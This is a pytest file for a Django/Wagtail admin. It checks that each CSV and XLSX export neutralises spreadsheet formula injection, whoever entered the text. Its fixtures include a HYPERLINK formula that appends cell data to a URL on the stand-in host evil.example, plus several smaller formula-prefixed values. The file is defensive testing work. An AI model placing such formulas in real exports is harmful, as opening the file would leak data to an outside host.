"""Issue 10, point 5: every spreadsheet export in the admin (Wagtail's
``list_export`` on listings, snippets and model viewsets) neutralises formulas
in CSV and XLSX, whoever typed the text (anonymous visitors included)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
SAFE = "'" + FORMULA


def _feedback():
    from home.models import AccessibilityFeedback

    AccessibilityFeedback.objects.create(message=FORMULA, name="-2+3", email="")
    return "/admin/tillganglighet_aterkoppling/"


def _association_listing(make_association):
    make_association(title=FORMULA, town="@SUM(1+1)")
    return "/admin/foreningar_listing/"


def _representatives(make_rep):
    make_rep(name=FORMULA, email="formel@example.org")
    return "/admin/representanter/"


def _applications():
    from django.utils import timezone

    from foreningar.models import RegistrationApplication

    RegistrationApplication.objects.create(
        data={"title": "x"},
        applicant_name=FORMULA,
        applicant_email="formel@example.org",
        applicant_role="+1",
        consent_version="1",
        consent_text_hash="0" * 64,
        consented_at=timezone.now(),
    )
    return "/admin/registreringsansokningar/"


def _funders():
    from coordinator.grants.factories import FunderFactory

    FunderFactory(name=FORMULA)
    return "/admin/snippets/grants/funder/"


def _help_requests():
    from coordinator.grants.factories import HelpRequestFactory

    HelpRequestFactory(name=FORMULA, question="=1+1")
    return "/admin/bidrag/hjalpforfragningar/"


EXPORTS = {
    "accessibility feedback": lambda fx: _feedback(),
    "association listing": lambda fx: _association_listing(fx["make_association"]),
    "representatives": lambda fx: _representatives(fx["make_rep"]),
    "registration applications": lambda fx: _applications(),
    "funders": lambda fx: _funders(),
    "help requests": lambda fx: _help_requests(),
}


def _csv_cells(response) -> list[str]:
    import csv

    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list[str]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", list(EXPORTS))
def test_admin_export_neutralises_formulas(
    coordinator_client, make_association, make_rep, name, export_format
):
    url = EXPORTS[name]({"make_association": make_association, "make_rep": make_rep})
    response = coordinator_client.get(f"{url}?export={export_format}")
    assert response.status_code == 200, name
    cells = (_csv_cells if export_format == "csv" else _xlsx_cells)(response)
    assert SAFE in cells, (name, cells[:20])
    assert FORMULA not in cells
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert not dangerous, (name, dangerous)
